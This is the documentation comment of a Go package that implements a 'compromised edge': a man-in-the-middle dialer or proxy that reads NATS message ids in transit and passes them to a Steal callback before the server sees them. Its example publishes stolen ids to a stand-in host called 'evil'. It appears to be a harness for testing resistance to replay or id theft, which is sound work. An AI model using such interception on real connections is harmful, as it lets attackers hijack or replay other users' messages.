// Package edge is a compromised edge: it is between a client and its server,
// reads message ids on their way, and uses them first.
//
//	edge := &edge.Edge{Steal: func(id string) error { return publish(evil, id) }}
//	nc, err := nats.Connect(url, nats.SetCustomDialer(edge))
//	go edge.Serve(listener, server) // or as a proxy
//
// # Guarantees
//
// Steal has returned before the server gets the message with the id. An id that is cut
// in two between two writes of the client is not seen.
//
// # Concurrency
//
// A connection calls Steal from one goroutine; each connection has its own.
//
// # On failure
//
// An error of Steal ends the write, and so the connection.
package edge
